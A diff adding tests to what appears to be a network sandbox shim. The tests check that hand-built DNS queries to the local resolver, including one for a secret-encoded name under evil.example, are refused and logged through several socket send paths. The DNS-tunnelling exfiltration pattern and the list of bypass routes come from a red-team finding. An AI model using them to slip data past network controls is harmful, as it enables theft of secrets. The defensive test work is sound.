@@ -730,6 +730,139 @@ else:
            "-compatible one judged by the in-addr.arpa name glibc asks for)",
            "\n".join(f"{k}: queries={n}\n{r.diag()}" for k, (r, n) in others.items()))
 
+# DNS queries a program builds and sends itself to the resolver a rule allows (lambda-base
+# lets 127.0.0.0/8:53 through for libc's resolver): each datagram is read as a DNS query and
+# its questions judged as names; one that is no query is refused; a UDP socket "connected"
+# to port 53 sends only through the shim; TCP to port 53 is refused (red-team sweep,
+# 2026-11-24: a hand-built query for <secret>.evil.example reached the name server).
+PY_DNS = r"""
+import os, socket, struct, sys
+def q(name):
+    h = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    return (h + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" +
+            struct.pack(">HH", 1, 1))
+A = ("127.0.0.1", 53)
+op, name = sys.argv[1], sys.argv[2]
+kind = socket.SOCK_STREAM if op == "tcp" else socket.SOCK_DGRAM
+s = socket.socket(socket.AF_INET, kind)
+try:
+    if op == "sendto":
+        s.sendto(q(name), A)
+    elif op == "not-dns":
+        s.sendto(name.encode(), A)
+    elif op == "sendmsg":
+        m = q(name)
+        s.sendmsg([m[:5], m[5:]], [], 0, A)
+    elif op == "tcp":
+        s.connect(A)
+        m = q(name)
+        s.sendall(struct.pack(">H", len(m)) + m)
+    else:
+        s.connect(A)
+        print("peer %s:%d" % s.getpeername())
+        if op == "connect-send":
+            s.send(q(name))
+        elif op == "connect-sendmsg":
+            s.sendmsg([q(name)])
+        elif op == "connect-dup-send":
+            s.dup().send(q(name))
+        elif op == "connect-write":
+            os.write(s.fileno(), q(name))
+    print("sent")
+except OSError as e:
+    print("errno=%d" % e.errno)
+"""
+
+
+def own_dns_case():
+    try:
+        udp = Server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))
+        tcp = Server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 53))
+    except OSError as e:
+        return None, f"cannot bind 127.0.0.1:53: {e}"
+    prof = profile([{"cidr": "127.0.0.1", "ports": [53]}, {"host": "allowed.example"}], "dns")
+    out = {}
+    secret = f"c2VjcmV0-{os.getpid()}.evil.example"
+    for mode, op, name in (("enforce", "sendto", "allowed.example"),
+                           ("enforce", "connect-send", "allowed.example"),
+                           ("enforce", "sendto", secret), ("enforce", "not-dns", secret),
+                           ("enforce", "sendmsg", secret), ("enforce", "connect-send", secret),
+                           ("enforce", "connect-sendmsg", secret),
+                           ("enforce", "connect-dup-send", secret),
+                           ("enforce", "connect-write", secret), ("enforce", "tcp", secret),
+                           ("alert", "sendto", secret)):
+        udp.reset()
+        tcp.reset()
+        r = run(py(PY_DNS, op, name), profile=prof, mode=mode)
+        got = udp.count(1, timeout=2) if r.stdout.endswith("sent\n") else udp.count()
+        out[(mode, op, name)] = (r, got, tcp.count(), udp.data())
+    # Record mode learns the name asked for, as asked of a name server (port 53, udp).
+    learned_out = os.path.join(W, "dns-learned.json")
+    r = run(py(PY_DNS, "connect-send", "learned.example"), profile=prof, mode="record",
+            env={"FNGUARD_RECORD_OUT": learned_out})
+    try:
+        with open(learned_out) as f:
+            rules = json.load(f).get("network", [])
+    except (OSError, ValueError):
+        rules = []
+    out["record"] = (r, rules)
+    udp.sock.close()
+    tcp.sock.close()
+    return out, secret
+
+
+results, secret = own_dns_case()
+if results is None:
+    tap.ok(True, f"DNS queries a program sends itself # SKIP {secret}")
+else:
+    def res(mode, op, name):
+        return results[(mode, op, name)]
+
+    ok_cases = [res("enforce", "sendto", "allowed.example"),
+                res("enforce", "connect-send", "allowed.example")]
+    tap.ok(all(r.stdout.endswith("sent\n") and n == 1 and b"allowed" in data[0]
+               for r, n, _, data in ok_cases) and
+           "peer 127.0.0.1:53" in ok_cases[1][0].stdout,
+           "enforce: a query the program builds for an allowed name reaches the name server "
+           "(sendto, and connect + send; getpeername names the server)",
+           "\n".join(r.diag() for r, *_ in ok_cases))
+    refused = {op: res("enforce", op, secret) for op in
+               ("sendto", "not-dns", "sendmsg", "connect-send", "connect-sendmsg",
+                "connect-dup-send")}
+    tap.ok(all(r.stdout.endswith("errno=13\n") and n == 0 and
+               net_events(r, type="violation", action="blocked")
+               for r, n, _, _ in refused.values()),
+           "enforce: a query for a name outside the profile, or a datagram that is no query, "
+           "sent to the resolver's port by sendto, sendmsg, or send on a connected socket "
+           "(and its dup): refused (EACCES), nothing reaches the name server, logged",
+           "\n".join(f"{op}: {n} datagrams\n{r.diag()}"
+                     for op, (r, n, _, _) in refused.items()))
+    named = [e for r, *_ in refused.values() for e in net_events(r, type="violation")
+             if secret in e.get("target", "")]
+    tap.ok(len(named) >= 5, "enforce: the violations name the name asked for",
+           "\n".join(str(e) for e in named))
+    r, n, _, _ = res("enforce", "connect-write", secret)
+    tap.ok(r.stdout.endswith("errno=89\n") and n == 0,
+           "enforce: write(2) on a UDP socket connected to port 53, which the shim does not "
+           "see, sends nothing (EDESTADDRREQ: the shim left it unconnected)", r.diag())
+    r, n, conns, _ = res("enforce", "tcp", secret)
+    tap.ok(r.stdout.endswith("errno=111\n") and conns == 0 and
+           net_events(r, type="violation", op="connect", action="blocked"),
+           "enforce: TCP to port 53 from the program itself is refused (the shim does not read "
+           "the stream), logged", r.diag())
+    r, rules = results["record"]
+    tap.ok(r.stdout.endswith("sent\n") and
+           {"host": "learned.example", "ports": [53], "proto": "udp"} in
+           [{k: v for k, v in rule.items() if k in ("host", "ports", "proto")}
+            for rule in rules],
+           "record: the name a query the program sends itself asks for is learned (as asked of "
+           "a name server: port 53, udp), so the same query passes in enforce",
+           r.diag() + f"\nlearned={rules}")
+    r, n, _, _ = res("alert", "sendto", secret)
+    tap.ok(r.stdout.endswith("sent\n") and n == 1 and
+           [e for e in net_events(r, type="violation") if secret in e.get("target", "")],
+           "alert: the query for a name outside the profile is sent, and logged", r.diag())
+
 # A lookup left by a jump (alarm + siglongjmp around getaddrinfo, as wget's --dns-timeout
 # and curl's synchronous resolver do), against a name server that never answers: the
 # shim's guard stayed entered, and nothing the thread did afterwards was judged (a connect
